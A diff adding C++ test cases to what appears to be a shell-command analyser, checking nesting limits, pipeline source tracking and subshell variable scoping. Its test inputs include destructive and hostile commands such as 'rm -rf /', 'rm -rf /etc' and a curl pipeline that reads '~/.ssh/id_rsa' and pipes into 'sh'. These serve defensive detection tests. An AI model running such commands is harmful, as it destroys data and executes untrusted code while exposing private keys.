@@ -397,3 +397,58 @@ TEST_CASE("brace expansion is bounded") {
   REQUIRE(a.commands.size() == 1);
   CHECK(a.commands[0].args.size() <= 300);
 }
+
+TEST_CASE("deep nesting of every kind is a limit, never a stack overflow") {
+  const int n = 10000;
+  auto repeat = [](std::string_view s, int k) {
+    std::string out;
+    for (int i = 0; i < k; ++i) out += s;
+    return out;
+  };
+  std::vector<std::string> inputs = {
+      "echo " + repeat("$( ", n) + "x" + repeat(" )", n),
+      "echo " + repeat("\"$(", n) + "x" + repeat(")\"", n),
+      repeat("( ", n) + "ls" + repeat(" )", n),
+      repeat("{ ", n) + "ls; " + repeat("} ", n),
+      repeat("if ", n) + "true",
+      repeat("f() ", n) + "{ ls; }",
+      repeat("function ", n) + "f { ls; }",
+      "echo ${x:-" + repeat("${x:-", 100 * n) + "y" + repeat("}", 100 * n) + "}",
+      "echo " + repeat("<(", n) + "ls" + repeat(")", n),
+      "case a in " + repeat("a) case a in ", n),
+      repeat("xargs ", n) + "ls",
+      repeat("watch -x ", n) + "ls",
+      repeat("find . -exec ", n) + "ls" + repeat(" \\;", n),
+  };
+  for (const auto& in : inputs) {
+    CAPTURE(in.substr(0, 30));
+    Analysis a = an(in);
+    CHECK(a.unparseable);
+    CHECK_FALSE(a.error.empty());
+  }
+  // within the limit, nesting is analysed
+  CHECK(find_cmd(an(repeat("f() ", 8) + "{ rm -rf /; }; f"), "rm"));
+  CHECK(deletes(an("xargs xargs rm -rf < /dev/null; echo a | xargs xargs rm -rf"), "/home/user/project/a"));
+}
+
+TEST_CASE("a long pipeline names each upstream command once") {
+  std::string cmd = "curl -s https://x";
+  for (int i = 0; i < 1500; ++i) cmd += " | grep a";
+  cmd += " | cat ~/.ssh/id_rsa - | sh";
+  Analysis a = an(cmd);
+  REQUIRE_FALSE(a.unparseable);
+  const Command& sh = a.commands.back();
+  CHECK(sh.name == "sh");
+  CHECK(sh.stdin_from == std::vector<std::string>{"curl", "grep", "cat"});
+  REQUIRE(a.dynamic_code.size() == 1);
+  CHECK(a.dynamic_code[0].sources == std::vector<std::string>{"curl", "grep", "cat"});
+  CHECK(a.commands[1].stdin_from == std::vector<std::string>{"curl"});
+}
+
+TEST_CASE("subshells see the variables of their parent and keep their own") {
+  Analysis a = an("d=/etc; (rm -rf $d; e=/usr); rm -rf $e; echo x | (d=/var; rm -rf $d); rm -rf \"$d/x\"");
+  CHECK(deletes(a, "/etc"));
+  CHECK(deletes(a, "/var"));
+  CHECK(deletes(a, "/etc/x"));
+  CHECK_FALSE(deletes(a, "/usr"));
+}
